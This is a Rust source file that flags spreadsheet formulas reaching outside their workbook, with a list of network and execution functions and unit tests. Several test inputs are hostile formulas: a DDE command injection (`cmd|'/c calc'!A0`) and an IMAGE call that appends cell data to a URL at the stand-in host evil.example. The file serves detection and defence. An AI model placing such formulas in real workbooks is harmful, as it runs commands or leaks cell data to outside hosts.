//! Formulas that reach out of their workbook when they are calculated or opened.

use crate::{TokenKind, functions, lex};

/// Functions that fetch something, run something, or ask another program.
const REACHING: [&str; 11] = [
    "WEBSERVICE",
    "IMAGE",
    "STOCKHISTORY",
    "RTD",
    "DDE",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "SQL.REQUEST",
    "EXEC",
    "PY",
];

/// What a formula reaches for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reach<'a> {
    /// Cells or names of another workbook, by this reference.
    Workbook(&'a str),
    /// Another program, by a DDE link.
    Program,
    /// Whatever this function fetches or runs.
    Function(&'a str),
}

/// The first thing outside of the workbook that a formula reaches for.
///
/// A reference that is put together from texts (`INDIRECT`) is not seen.
pub fn reaches_out(formula: &str) -> Option<Reach<'_>> {
    let by_reference = lex(formula).find_map(|token| {
        // `cmd|'/c calc'!A0`. Texts, columns of tables and names of sheets may hold any such character.
        let may_be_anything = matches!(token.kind, TokenKind::Text | TokenKind::Structured);
        if !may_be_anything && token.body().contains('|') {
            return Some(Reach::Program);
        }
        let prefix = token.prefix();
        let is_other = prefix.book.is_some() && prefix.book_index() != Some(0);
        (token.prefix_len > 0 && is_other).then_some(Reach::Workbook(token.text))
    });
    let by_function = || {
        functions(formula)
            .find(|call| REACHING.iter().any(|name| name.eq_ignore_ascii_case(call.name)))
            .map(|call| Reach::Function(call.name))
    };
    by_reference.or_else(by_function)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(formula: &str, expected: Option<Reach<'_>>) {
        assert_eq!(reaches_out(formula), expected, "{formula}");
    }

    #[test]
    fn other_workbooks() {
        check("SUM([1]Data!A1:A9)", Some(Reach::Workbook("[1]Data!A1:A9")));
        check(
            "'C:\\x\\[b.xlsx]Q1 Actuals'!$B$2*2",
            Some(Reach::Workbook("'C:\\x\\[b.xlsx]Q1 Actuals'!$B$2")),
        );
        check("[b.xlsx]Data!A1", Some(Reach::Workbook("[b.xlsx]Data!A1")));
        check(
            "'https://evil.example/[b.xlsx]Data'!A1",
            Some(Reach::Workbook("'https://evil.example/[b.xlsx]Data'!A1")),
        );
        check("[2]!Sales[Amount]", Some(Reach::Workbook("[2]!Sales[Amount]")));
        check("[0]!Rate", None);
        check("'a|b'!A1", None);
    }

    #[test]
    fn other_programs_and_networks() {
        check("cmd|'/c calc'!A0", Some(Reach::Program));
        check("1+_xlfn.WEBSERVICE(A1)", Some(Reach::Function("WEBSERVICE")));
        check("image(\"https://evil.example/\"&A1)", Some(Reach::Function("image")));
        check("RTD(\"server\",,\"topic\")", Some(Reach::Function("RTD")));
    }

    #[test]
    fn what_stays_within() {
        check("SUM(Data!A1,Sales[Amount],Rate)", None);
        check("\"[b.xlsx]Data!A1 cmd|'/c calc'!A0\"&A1", None);
        check("HYPERLINK(\"https://example.org\",\"see\")", None);
        check("Sales[[#Totals],[a|b]]", None);
    }
}
